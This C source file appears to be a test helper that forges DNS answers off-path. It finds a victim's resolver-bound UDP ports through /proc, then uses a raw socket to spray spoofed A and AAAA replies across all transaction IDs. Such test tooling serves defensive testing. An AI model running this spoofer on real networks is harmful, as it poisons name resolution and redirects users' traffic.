// SPDX-License-Identifier: GPL-2.0-only
/*
 * The off-path DNS forger of test 89 (test namespaces only): it reads the
 * UDP sockets of a victim's network namespace from /proc/PID/net/udp (what
 * any local user can do), and for every socket connected to the resolver
 * sprays forged A and AAAA answers for one name, from the resolver's
 * address and port (raw socket, spoofed source), cycling through all IDs,
 * in lower case. Bounded by a packet count and a time limit.
 *
 *   dns_forge PROC_NET_UDP RESOLVER_V4 VICTIM_V4 NAME FAKE_V4 FAKE_V6
 *             MAX_PACKETS SECONDS
 *
 * Prints "sent=N ports=M" (M: distinct ports seen) at the end.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_PORTS 64
#define SEEN_MAX 4096

static uint16_t ports[MAX_PORTS];
static size_t n_ports;
static uint16_t seen[SEEN_MAX];
static size_t n_seen;

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Local ports of the sockets whose remote end is resolver:53. */
static void read_ports(const char *path, uint32_t resolver)
{
	char line[512], want[16];
	FILE *f = fopen(path, "r");

	n_ports = 0;
	if (!f)
		return;
	/* /proc prints the address as the host-order view of the network
	 * order word: on little-endian, 192.0.2.53 is 3502000C. */
	snprintf(want, sizeof(want), "%08X:0035", resolver);
	while (fgets(line, sizeof(line), f) && n_ports < MAX_PORTS) {
		char local[64], remote[64];
		unsigned port;

		if (sscanf(line, " %*s %63s %63s", local, remote) != 2 || strcmp(remote, want) != 0)
			continue;
		if (sscanf(strchr(local, ':') + 1, "%x", &port) != 1)
			continue;
		ports[n_ports++] = (uint16_t)port;
		for (size_t i = 0; i < n_seen; i++)
			if (seen[i] == port)
				goto next;
		if (n_seen < SEEN_MAX)
			seen[n_seen++] = (uint16_t)port;
	next:;
	}
	fclose(f);
}

static size_t put_name(uint8_t *p, const char *name)
{
	size_t n = 0;

	while (*name) {
		const char *dot = strchr(name, '.');
		size_t len = dot ? (size_t)(dot - name) : strlen(name);

		p[n++] = (uint8_t)len;
		memcpy(p + n, name, len);
		n += len;
		name += len + (dot ? 1 : 0);
	}
	p[n++] = 0;
	return n;
}

/* An answer for NAME type TYPE with one record: the DNS part only. */
static size_t build_dns(uint8_t *p, const char *name, uint16_t type, const void *rdata,
			uint16_t rdlen)
{
	static const uint8_t hdr[] = {0, 0, 0x85, 0x80, 0, 1, 0, 1, 0, 0, 0, 0};
	size_t n = sizeof(hdr);

	memcpy(p, hdr, n);
	n += put_name(p + n, name);
	p[n++] = (uint8_t)(type >> 8);
	p[n++] = (uint8_t)type;
	p[n++] = 0;
	p[n++] = 1;
	p[n++] = 0xc0; /* the question's name */
	p[n++] = 0x0c;
	p[n++] = (uint8_t)(type >> 8);
	p[n++] = (uint8_t)type;
	p[n++] = 0;
	p[n++] = 1;
	p[n++] = 0;
	p[n++] = 0;
	p[n++] = 0x0e;
	p[n++] = 0x10; /* TTL 3600 */
	p[n++] = 0;
	p[n++] = (uint8_t)rdlen;
	memcpy(p + n, rdata, rdlen);
	return n + rdlen;
}

int main(int argc, char **argv)
{
	struct in_addr resolver, victim, fake4;
	struct in6_addr fake6;
	uint8_t pkt[2][600];
	size_t dlen[2];
	unsigned long max, sent = 0;
	double end, next_read = 0;
	uint32_t id = 0;
	int s, one = 1;

	if (argc != 9 || inet_pton(AF_INET, argv[2], &resolver) != 1 ||
	    inet_pton(AF_INET, argv[3], &victim) != 1 || inet_pton(AF_INET, argv[5], &fake4) != 1 ||
	    inet_pton(AF_INET6, argv[6], &fake6) != 1) {
		fprintf(stderr, "usage: dns_forge PROC_NET_UDP RESOLVER_V4 VICTIM_V4 NAME "
				"FAKE_V4 FAKE_V6 MAX_PACKETS SECONDS\n");
		return 2;
	}
	max = strtoul(argv[7], NULL, 10);
	end = now_s() + atof(argv[8]);
	s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s < 0 || setsockopt(s, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) < 0) {
		perror("dns_forge: raw socket");
		return 1;
	}
	for (int t = 0; t < 2; t++) {
		struct iphdr *ip = (struct iphdr *)pkt[t];
		struct udphdr *udp = (struct udphdr *)(pkt[t] + sizeof(*ip));
		uint8_t *dns = pkt[t] + sizeof(*ip) + sizeof(*udp);

		memset(pkt[t], 0, sizeof(pkt[t]));
		dlen[t] = t == 0 ? build_dns(dns, argv[4], 1, &fake4, 4)
				 : build_dns(dns, argv[4], 28, &fake6, 16);
		ip->version = 4;
		ip->ihl = 5;
		ip->ttl = 64;
		ip->protocol = IPPROTO_UDP;
		ip->saddr = resolver.s_addr;
		ip->daddr = victim.s_addr;
		ip->tot_len = htons((uint16_t)(sizeof(*ip) + sizeof(*udp) + dlen[t]));
		udp->source = htons(53);
		udp->len = htons((uint16_t)(sizeof(*udp) + dlen[t]));
		udp->check = 0; /* optional over IPv4 */
	}
	while (sent < max && now_s() < end) {
		struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = victim};

		if (now_s() >= next_read) {
			read_ports(argv[1], resolver.s_addr);
			next_read = now_s() + 0.001;
		}
		if (!n_ports) {
			usleep(200);
			continue;
		}
		/* 256 IDs to every port seen, A then AAAA, then look again. */
		for (int k = 0; k < 256 && sent < max; k++, id++) {
			for (size_t i = 0; i < n_ports && sent < max; i++) {
				for (int t = 0; t < 2; t++) {
					struct udphdr *udp = (struct udphdr *)(pkt[t] + 20);
					uint8_t *dns = pkt[t] + 28;

					udp->dest = htons(ports[i]);
					dns[0] = (uint8_t)(id >> 8);
					dns[1] = (uint8_t)id;
					if (sendto(s, pkt[t], 28 + dlen[t], 0,
						   (struct sockaddr *)&to, sizeof(to)) > 0)
						sent++;
				}
			}
		}
	}
	printf("sent=%lu ports=%zu\n", sent, n_seen);
	return 0;
}
